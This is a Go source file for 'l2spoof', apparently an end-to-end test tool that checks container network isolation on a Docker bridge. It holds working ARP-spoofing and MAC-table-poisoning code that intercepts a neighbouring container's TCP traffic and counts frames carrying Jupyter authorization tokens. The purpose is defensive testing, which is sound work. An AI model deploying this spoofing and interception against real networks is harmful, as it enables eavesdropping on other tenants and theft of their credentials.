// Command l2spoof is a customer with NET_RAW in their container taking over
// a neighbour's address on the Docker bridge: for a while it announces, in
// ARP replies to everyone, that the victim's IPv4 address is at its own
// MAC, and sends frames with the victim's MAC as their source (so the
// bridge would learn that MAC on its port); meanwhile it counts the IPv4 TCP
// frames for the victim that arrive at it, and those carrying a Jupyter
// token. The end-to-end tests copy it into a customer's container.
//
//	l2spoof <interface> <victim IPv4> <victim MAC> <seconds>
//
// It prints "captured N frames for <victim>, T with a token".
package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strconv"
	"syscall"
	"time"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "l2spoof:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) != 4 {
		return fmt.Errorf("usage: l2spoof <interface> <victim IPv4> <victim MAC> <seconds>")
	}
	iface, err := net.InterfaceByName(args[0])
	if err != nil {
		return err
	}
	victim := net.ParseIP(args[1]).To4()
	victimMAC, err := net.ParseMAC(args[2])
	if victim == nil || err != nil {
		return fmt.Errorf("%q %q: want an IPv4 address and a MAC", args[1], args[2])
	}
	seconds, err := strconv.Atoi(args[3])
	if err != nil || seconds <= 0 {
		return fmt.Errorf("%q is not a number of seconds", args[3])
	}
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, int(htons(syscall.ETH_P_ALL)))
	if err != nil {
		return fmt.Errorf("opening a packet socket (needs NET_RAW): %w", err)
	}
	defer syscall.Close(fd)
	if err := syscall.Bind(fd, &syscall.SockaddrLinklayer{Protocol: htons(syscall.ETH_P_ALL), Ifindex: iface.Index}); err != nil {
		return err
	}
	tv := syscall.NsecToTimeval(int64(20 * time.Millisecond))
	if err := syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &tv); err != nil {
		return err
	}
	to := &syscall.SockaddrLinklayer{Ifindex: iface.Index, Halen: 6}
	broadcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	copy(to.Addr[:], broadcast)
	announce := arpReply(iface.HardwareAddr, broadcast, victim)
	// The victim's MAC as a frame's source: a bridge that learns it moves
	// the victim's forwarding entry to this port.
	steal := append(append(append([]byte{}, broadcast...), victimMAC...), 0x88, 0xb5) // local experimental ethertype
	steal = append(steal, make([]byte, 46)...)

	captured, tokens := 0, 0
	buf := make([]byte, 65536)
	end, next := time.Now().Add(time.Duration(seconds)*time.Second), time.Time{}
	for time.Now().Before(end) {
		if time.Now().After(next) {
			_ = syscall.Sendto(fd, announce, 0, to)
			_ = syscall.Sendto(fd, steal, 0, to)
			next = time.Now().Add(50 * time.Millisecond)
		}
		n, _, err := syscall.Recvfrom(fd, buf, 0)
		if err != nil || n < 14+20 {
			continue
		}
		f := buf[:n]
		if binary.BigEndian.Uint16(f[12:]) != 0x0800 || f[14+9] != syscall.IPPROTO_TCP || !net.IP(f[14+16:14+20]).Equal(victim) {
			continue
		}
		if bytes.Equal(f[6:12], iface.HardwareAddr) {
			continue // our own
		}
		captured++
		if bytes.Contains(f, []byte("Authorization: token")) || bytes.Contains(f, []byte("authorization: token")) {
			tokens++
		}
	}
	fmt.Printf("captured %d frames for %s, %d with a token\n", captured, victim, tokens)
	return nil
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// arpReply says, to dst, that ip is at mac.
func arpReply(mac, dst net.HardwareAddr, ip net.IP) []byte {
	eth := append(append(append([]byte{}, dst...), mac...), 0x08, 0x06)
	arp := []byte{0, 1, 8, 0, 6, 4, 0, 2} // Ethernet, IPv4, reply
	arp = append(append(arp, mac...), ip...)
	arp = append(append(arp, dst...), ip...)
	return append(eth, arp...)
}
